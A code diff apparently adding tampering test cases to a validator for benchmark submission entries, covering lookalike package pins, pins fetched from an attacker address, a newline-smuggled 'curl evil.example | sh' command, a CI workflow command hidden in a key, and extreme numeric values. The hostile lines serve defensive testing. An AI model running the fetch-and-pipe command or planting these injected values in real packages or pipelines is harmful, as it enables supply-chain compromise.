@@ -241,6 +241,34 @@ def a_pin_of_something_else(folder):
     edit(folder / "entry.json", lambda e: e.update(pin="evil-package==1.0"))
 
 
+@tampering("pin")
+def a_pin_that_begins_alike(folder):
+    edit(folder / "entry.json", lambda e: e.update(pin=e["pin"].partition(" @ ")[0].replace("==", "-evil==")))
+
+
+@tampering("schema")
+def a_pin_from_an_address(folder):
+    def point(e):
+        e.update(pin="git+https://evil.example/" + e["pin"].partition(" @ ")[0])
+
+    edit(folder / "entry.json", point)
+
+
+@tampering("schema")
+def a_pin_of_half_a_commit(folder):
+    edit(folder / "entry.json", lambda e: e.update(pin=e["pin"].partition(" @ ")[0] + " @ 0123abc"))
+
+
+@tampering("markup")
+def a_command_behind_the_pin(folder):
+    edit(folder / "entry.json", lambda e: e.update(pin="bgbench==0.1.0 @ x\ncurl evil.example | sh"))
+
+
+@tampering("markup")
+def a_workflows_command_in_a_key(folder):
+    record(folder, lambda r: r["diagnostics"].update({"x\n::error::y": 1}))
+
+
 @tampering("licence")
 def no_licence(folder):
     edit(folder / "entry.json", lambda e: e.update(licence="all rights reserved"))
@@ -581,6 +609,11 @@ _field("a_commit_that_is_a_number", lambda r: r["provenance"].update(git={"commi
 _field("git_that_is_a_text", lambda r: r["provenance"].update(git="x"))
 _field("a_density_that_is_null", lambda r: r["diagnostics"].update(density=None))
 _field("seconds_without_their_total", lambda r: r["seconds"].pop("total"))
+_field("seconds_too_short_to_divide_by", lambda r: r["seconds"].update(sampling=5e-324))
+_field("seconds_without_end", lambda r: r["seconds"].update(total=1e300))
+_field("metrics_too_large_to_add", lambda r: r["metrics"].update(energy_w2=1e200))
+_field("parameters_without_end", lambda r: r["card"].update(n_parameters=10**24))
+_field("hours_without_end", lambda r: r["card"].update(training_hours=1e300))
 _field("many_parameters", lambda r: r["card"].update(n_parameters="many"))
 _field("hours_that_are_null", lambda r: r["card"].update(training_hours=None))
 
